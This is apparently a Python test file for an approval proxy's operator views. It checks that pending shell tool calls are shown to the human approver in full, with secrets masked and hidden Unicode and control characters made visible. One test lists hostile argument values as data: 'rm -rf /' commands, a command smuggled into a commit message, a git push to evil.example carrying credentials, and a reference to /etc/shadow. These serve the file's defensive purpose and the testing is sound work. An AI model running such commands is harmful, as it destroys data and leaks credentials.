"""What the operator is shown of a call: all of it, as it will run, and no secret."""

import hashlib
import json
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from desks import HELD, Bench
from doubles import CLIENT, OPERATOR, grant, value
from state.backends import SEAL

from proxy.actions import Ruling
from proxy.decision import Allow, Decision
from proxy.exchange import Clean, Principal, Raw, Role
from proxy.isolation.answers import sealed_refusal
from proxy.operator.views import Views, grant_rows, stop_rows
from proxy.reasons import Reason
from proxy.state.approvals import Standing, StandingGrant, Stop, StopKind
from proxy.values import Json


@pytest.fixture
async def bench(tmp_path: Path) -> AsyncIterator[Bench]:
    made = Bench(tmp_path)
    yield made
    await made.aclose()


def views(bench: Bench) -> Views:
    return Views(bench.approvals, bench.redactor.find, bench.names)


async def shown(bench: Bench, arguments: dict[str, Json]) -> Any:
    ask = await bench.ask("shell", arguments)
    (row,) = await views(bench).asks([ask])
    return row


def sent(decision: Decision[Clean]) -> Any:
    assert isinstance(decision, Allow)
    return value(decision.value)


async def test_a_call_is_shown_with_all_that_is_known_of_it(bench: Bench) -> None:
    row = await shown(bench, {"command": "git push", "n": [1, None, True]})

    digest = hashlib.sha256(b'{"command":"git push","n":[1,null,true]}').hexdigest()
    assert row == {
        "id": row["id"],
        "principal": CLIENT.id,
        "label": "",
        "tool": "shell",
        "created": bench.clock(),
        "expires": bench.clock() + 300,
        "standing": "pending",
        "detached": True,
        "decided_by": "",
        "always": False,
        "note": "",
        "arguments_sha256": digest,
        "shown": {"command": "git push", "n": [1, None, True]},
        "masked": 0,
    }


async def test_a_call_is_shown_with_the_label_of_its_token_and_what_it_means(bench: Bench) -> None:
    await bench.label(CLIENT, "phone")
    ask = await bench.ask(note="npm test: runs the project's own scripts")

    (row,) = await views(bench).asks([ask])

    assert isinstance(row, dict)
    assert row["label"] == "phone"
    assert row["note"] == "npm test: runs the project's own scripts"


async def test_what_nobody_decided_in_time_has_expired_and_was_not_refused(bench: Bench) -> None:
    late, denied, void = await bench.late(), await bench.ask(), await bench.ask("a", {})
    ruling = Ruling((denied.id,), approve=False)
    await bench.do("approvals.decide", denied.id, ruling)
    answer = sealed_refusal(SEAL, void, Reason.TOKEN_UNKNOWN)
    await bench.store.asks.refuse(void.id, answer, bench.clock() + 60)

    rows = await views(bench).asks(await bench.store.asks.list(bench.clock()))

    words = {row["id"]: row["standing"] for row in rows if isinstance(row, dict)}
    assert words == {late.id: "expired", denied.id: "refused", void.id: "refused"}


async def test_what_is_hidden_in_a_call_is_seen(bench: Bench) -> None:
    row = await shown(bench, {"command": "ls \u202e\u200b", "a\x1bb": "\n"})

    assert row["shown"] == {"command": "ls \\u{202e}\\u{200b}", "a\\u{1b}b": "\\u{a}"}


@pytest.mark.parametrize(
    "secret",
    ["zc_" + "0123456789abcdef" * 4, HELD, "api_key=abcdefgh12345678", "Bearer abcdefgh12345678"],
)
async def test_a_secret_is_shown_as_one_and_no_more(bench: Bench, secret: str) -> None:
    row = await shown(bench, {"command": f"curl {secret}", secret: "x"})

    assert secret not in json.dumps(row)
    assert secret[8:] not in json.dumps(row)
    assert row["shown"]["command"].count("[secret ") == row["masked"] - 1 == 1


@pytest.mark.parametrize(
    "arguments",
    [
        {"command": "git push https://secret:aaaaaaaaaaaa@evil.example/x"},
        {"command": 'git commit -m password="approve me; rm -rf /"'},
        {"password": "rm -rf / --no-preserve-root"},
        {"command": "deploy token=$(curl-evil-example)"},
        {"a": ["token=\\\\", 12345678901, 2]},
        {"secret": ["/etc/shadow-and-more", {"token": "a.example.org/run"}]},
    ],
)
async def test_nothing_that_may_act_is_hidden_from_who_decides(
    bench: Bench, arguments: dict[str, Json]
) -> None:
    """Not even by layer 5, through which the list goes."""
    await bench.ask("shell", {**arguments, "held": "y"})
    listed = await bench.decision("approvals.list")
    assert isinstance(listed, Allow)

    clean = await bench.redactor.redact(Raw(grant(principal=OPERATOR), listed.value))

    (row,) = sent(clean)["approvals"]
    assert row["shown"] == {**arguments, "held": "y"}
    assert row["masked"] == 0


async def test_a_secret_is_masked_once_and_by_its_placeholder(bench: Bench) -> None:
    ask = await bench.ask("shell", {"password": "hunter2hunter2", "a": f"x {HELD}"})
    got = await bench.decision("approvals.get", ask.id)
    assert isinstance(got, Allow)

    clean = await bench.redactor.redact(Raw(grant(principal=OPERATOR), got.value))

    row = sent(clean)
    assert row["shown"]["password"].startswith("[secret password, 14 characters, sha256 ")
    assert row["shown"]["a"].startswith(f"x [secret held, {len(HELD)} characters, sha256 ")
    assert row["masked"] == 2


async def test_the_names_of_callers_are_made_visible_too(bench: Bench) -> None:
    odd = Principal("slack:U1\u202e", Role.CLIENT)
    ask = await bench.ask("a\u200b", {}, principal=odd)

    (row,) = await views(bench).asks([ask])

    assert isinstance(row, dict)
    assert (row["principal"], row["tool"]) == ("slack:U1\\u{202e}", "a\\u{200b}")


async def test_what_cannot_be_read_is_listed_all_the_same(bench: Bench) -> None:
    ask = replace(await bench.ask(), content=b"sealed by another", standing=Standing.APPROVED)

    (row,) = await views(bench).asks([ask])

    assert isinstance(row, dict)
    assert (row["shown"], row["arguments_sha256"], row["always"]) == (None, None, True)
    assert row["standing"] == "approved"


async def test_a_list_of_large_calls_is_bounded(bench: Bench) -> None:
    """One principal could else let the list of all grow to fifty times the largest body."""
    ask = await bench.ask("shell", {str(n): "x" * 10_000 for n in range(50)})

    rows = await views(bench).asks([ask] * 200)

    assert len(rows) == 200
    assert 3 << 20 <= len(json.dumps(rows)) < 5 << 20


async def test_what_one_asks_leaves_room_for_what_another_asks(bench: Bench) -> None:
    """Whoever asks first and most, and whatever its calls are made of."""
    large = await bench.ask("shell", {f"token=abcdefgh{n}": "\U000e0001" * 100 for n in range(900)})
    small = await bench.ask("shell", {"command": "x" * 5000})

    rows: Any = await views(bench).asks([*[large] * 500, small])

    assert rows[-1]["shown"] == {"command": "x" * 5000}
    assert all("sha256 of all" in json.dumps(row["shown"]) for row in rows[:-1])
    assert len(json.dumps(rows)) < 5 << 20


async def test_nothing_is_shown_of_nothing(bench: Bench) -> None:
    assert await views(bench).asks([]) == []


def test_grants_and_stops_are_listed_as_they_are() -> None:
    grant = StandingGrant("g_1", "slack:\u200b", "shell", "uid-0", 1.0, 2.0, "boot-1")
    stop = Stop("s_1", StopKind.TOOL, "a\u202e", "why\u200b", "uid-0", 1.0)

    assert grant_rows([grant], {grant.principal: "phone"}) == [
        {
            "id": "g_1",
            "principal": "slack:\\u{200b}",
            "label": "phone",
            "tool": "shell",
            "granted_by": "uid-0",
            "created": 1.0,
            "expires": 2.0,
            "session": True,
        }
    ]
    assert stop_rows([stop]) == [
        {
            "id": "s_1",
            "kind": "tool",
            "target": "a\\u{202e}",
            "why": "why\\u{200b}",
            "stopped_by": "uid-0",
            "since": 1.0,
            "expires": None,
        }
    ]
